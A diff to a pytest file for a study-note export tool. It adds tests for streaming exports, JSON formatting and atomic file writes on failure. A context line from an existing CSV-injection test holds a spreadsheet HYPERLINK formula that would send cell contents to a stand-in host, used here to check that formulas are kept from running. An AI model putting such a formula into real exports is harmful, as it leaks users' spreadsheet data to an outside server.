@@ -8,6 +8,7 @@ import io
 import json
 import subprocess
 import sys
+from collections.abc import Iterator
 from pathlib import Path
 
 import pytest
@@ -231,3 +232,58 @@ def test_export_csv_excel_keeps_formulas_from_running(tmp_path: Path) -> None:
     plain = _studylog(root, "export", "-f", "csv")
     rows = list(csv.reader(io.StringIO(plain.stdout.decode(), newline="")))
     assert rows[3][4:] == ["@evil", '=HYPERLINK("http://x.invalid/?"&A1)', "-1 vs +1"]
+
+
+# --- streaming: a post at a time ------------------------------------------------------
+
+
+@pytest.mark.parametrize("fmt", ["json", "csv", "anki", "md"])
+def test_an_export_writes_each_post_before_reading_the_next(fmt: str) -> None:
+    from studylog.export import write_export
+
+    events: list[str] = []
+
+    def posts() -> Iterator[ReadPost]:
+        # Oldest first, as `export` orders them (and `to_markdown` sorts them).
+        for post in (tricky(), sample()):
+            events.append(f"read {post.ref.slug}")
+            yield post
+
+    pieces: list[str] = []
+
+    def write(text: str) -> None:
+        pieces.append(text)
+        if text.strip():
+            events.append("write")
+
+    counts = write_export(posts(), fmt, write)
+    # Something of the first post went out before the second was read.
+    second = events.index(f"read {sample().ref.slug}")
+    assert "write" in events[events.index("read tricky") : second]
+    assert counts.posts == 2 and counts.questions == 6
+    whole = {"json": to_json, "csv": to_csv, "anki": to_anki, "md": to_markdown}[fmt]
+    assert "".join(pieces) == whole([tricky(), sample()])
+
+
+def test_streamed_json_is_what_json_dumps_writes() -> None:
+    for posts in ([], [sample()], [sample(), tricky()]):
+        text = to_json(posts)
+        assert text == json.dumps(json.loads(text), ensure_ascii=False, indent=2) + "\n"
+
+
+def test_an_export_that_fails_half_way_leaves_the_file_as_it_was(tmp_path: Path) -> None:
+    from studylog.errors import PostWriteError
+    from studylog.export import write_export
+    from studylog.post import atomic_file
+
+    target = tmp_path / "cards.txt"
+    target.write_text("the old export\n", encoding="utf-8")
+
+    def posts() -> Iterator[ReadPost]:
+        yield sample()
+        raise PostWriteError("the disk is full")
+
+    with pytest.raises(PostWriteError), atomic_file(target) as handle:
+        write_export(posts(), "anki", lambda text: handle.write(text.encode()))
+    assert target.read_text(encoding="utf-8") == "the old export\n"
+    assert sorted(p.name for p in tmp_path.iterdir()) == ["cards.txt"]
